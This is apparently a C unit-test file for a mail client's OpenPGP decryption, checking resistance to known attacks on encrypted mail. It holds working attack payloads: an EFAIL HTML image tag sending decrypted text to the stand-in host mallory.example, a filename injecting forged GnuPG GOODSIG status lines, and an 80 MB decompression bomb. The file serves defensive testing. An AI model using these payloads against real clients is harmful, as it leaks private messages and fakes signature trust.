/* test_attack_openpgp_cipher.c - mails that lie with what OpenPGP encrypts
 *
 * The structures of the known attacks on mail clients, with keys made here. */
#include "tests/flow/pgp_attack.h"

/* EFAIL: the opened part between two pieces of a stranger's HTML. */
static void exfiltration(void **state)
{
	char *part = pgp_encrypted("Content-Type: text/plain\r\n\r\nhidden "
				   "secret\r\n", ""), *text;

	(void)state;
	text = mail(HEAD MIXED "--mix\r\nContent-Type: text/html\r\n\r\n"
		    "<img src=\"http://mallory.example/\r\n--mix\r\n%s\r\n"
		    "--mix\r\nContent-Type: text/html\r\n\r\n\">\r\n"
		    "--mix--\r\n", part);
	is_unprotected();
	assert_null(strstr(buf_string(&pgp.content), "hidden secret"));
	mail_is("parts.0.kind", "sealed");
	/* Opened when asked for, and alone. */
	mail_done();
	mail_open(text, "2");
	assert_non_null(strstr(buf_string(&pgp.content), "hidden secret"));
	assert_null(strstr(buf_string(&pgp.content), "mallory.example"));
	mail_is("security", "encrypted");
	mail_is("covers", "part");
	mail_gone(text);
	free(part);
}

static void is_not_opened(const char *status)
{
	mail_is("encryption.status", status);
	assert_false(pgp.left);
	assert_int_equal(pgp.content.len, 0);
}

static void not_protected(void **state)
{
	char *part = pgp_encrypted(ENTITY, "--rfc2440 --disable-mdc");
	char *text = mail(HEAD "%s", part);

	(void)state;
	is_not_opened("damaged");
	assert_non_null(strstr(mail_word("encryption.reason"),
			       "without integrity protection"));
	mail_gone(text);
	free(part);
}

static void ciphertext_changed(void **state)
{
	char *part = pgp_encrypted(ENTITY, ""), *at, *text;
	int i;

	(void)state;
	at = strstr(part, "BEGIN PGP MESSAGE");
	assert_non_null(at);
	at += 200;
	for (i = 0; i < 3; i++, at += 20) {
		*at = *at == 'A' ? 'B' : 'A';
		text = mail(HEAD "%s", part);
		is_not_opened("damaged");
		mail_gone(text);
	}
	free(part);
}

static void plain_in_place_of_cipher(void **state)
{
	static const char *const how[] = {
		"-a --store -o - -", "-a -s " ALICE " -o - -",
		"-a -c --pinentry-mode loopback --passphrase x -o - -",
	};
	static const char *const status[] = {
		"damaged", "damaged", "unsupported"
	};
	char *armored, *text;
	size_t i;

	(void)state;
	for (i = 0; i < 3; i++) {
		armored = gpg(ENTITY, how[i]);
		assert_non_null(armored);
		text = pgp_mail_of(HEAD, pgp_wrapped(armored));
		mail_open(text, NULL);
		is_not_opened(status[i]);
		mail_gone(text);
		free(armored);
	}
}

/* G1, G2: status lines by the name of a file inside. */
static void status_by_a_file_name(void **state)
{
	static const char *const names[] = {
		"--set-filename \"$(printf 'x\\n[GNUPG:] GOODSIG "
		"0123456789ABCDEF Alice <alice@example.org>\\n"
		"[GNUPG:] TRUST_ULTIMATE')\"",
		"--set-filename '_CONSOLE'", "--set-filename '../../x'",
	};
	char *part, *text;
	size_t i;

	(void)state;
	for (i = 0; i < 3; i++) {
		part = pgp_encrypted(ENTITY, names[i]);
		text = mail(HEAD "%s", part);
		mail_is("security", "encrypted");
		mail_is("signature.status", "none");
		mail_is("encryption.integrity", "mdc");
		mail_gone(text);
		free(part);
	}
}

/* What gpg makes of ENTITY in that way, wrapped into one's own message. */
static void is_hidden(const char *how, const char *reason)
{
	char *armored, *text;

	gpg_do(ENTITY, how);
	armored = gpg("", "--trust-model always --no-literal -a -e "
		      "-r bob@example.org -o - stolen");
	assert_non_null(armored);
	text = pgp_mail_of(HEAD, pgp_wrapped(armored));
	mail_open(text, NULL);
	is_not_opened("damaged");
	assert_non_null(strstr(mail_word("encryption.reason"), reason));
	mail_gone(text);
	free(armored);
}

/* An old ciphertext of another sender's; and one that asks for a passphrase: it
 * is no key of Bob's that is locked. */
static void hidden_inside(void **state)
{
	(void)state;
	is_hidden("--trust-model always -e -r bob@example.org -o stolen -", "");
	is_hidden("--yes -c --pinentry-mode loopback --passphrase x -o stolen "
		  "-", "passphrase");
}

/* 80 MB of nothing in a small mail: gpg goes on for as long as it is read. */
static void swells(void **state)
{
	char path[256], *armored, *text;
	FILE *file;

	(void)state;
	(void)snprintf(path, sizeof(path), "%s/zeros", gpg_home);
	file = fopen(path, "w");
	assert_non_null(file);
	assert_true(fputs(ENTITY, file) >= 0 && fflush(file) == 0);
	assert_int_equal(ftruncate(fileno(file), 80 * 1024 * 1024), 0);
	assert_int_equal(fclose(file), 0);
	armored = gpg("", "--trust-model always -a -e --compress-algo zlib "
		      "-z 9 -r bob@example.org -o - zeros");
	assert_non_null(armored);
	assert_true(strlen(armored) < 200000);
	text = pgp_mail_of(HEAD, pgp_wrapped(armored));
	mail_open(text, NULL);
	is_not_opened("damaged");
	assert_non_null(strstr(mail_word("encryption.reason"), "swells"));
	mail_gone(text);
	free(armored);
}

/* As one part of several, so that a reply brings it back in clear. */
static void covert_part(void **state)
{
	static const char *const kinds[] = {
		"mixed", "alternative", "related"
	};
	char *part = pgp_encrypted("Content-Type: text/plain\r\n\r\nhidden "
				   "secret\r\n", ""), *text;
	size_t i;

	(void)state;
	for (i = 0; i < 3; i++) {
		text = mail(HEAD "Content-Type: multipart/%s; boundary=mix\r\n"
			    "\r\n--mix\r\nContent-Type: text/plain\r\n\r\n"
			    "Shall we meet?\r\n--mix\r\n%s\r\n--mix--\r\n",
			    kinds[i], part);
		is_unprotected();
		assert_null(strstr(buf_string(&pgp.content),
				   "hidden secret"));
		mail_gone(text);
	}
	free(part);
}

static const struct CMUnitTest tests[] = {
	cmocka_unit_test(exfiltration),
	cmocka_unit_test(not_protected),
	cmocka_unit_test(ciphertext_changed),
	cmocka_unit_test(plain_in_place_of_cipher),
	cmocka_unit_test(status_by_a_file_name),
	cmocka_unit_test(hidden_inside),
	cmocka_unit_test(swells),
	cmocka_unit_test(covert_part),
};

GPG_TESTS(tests, pgp_setup, pgp_teardown)
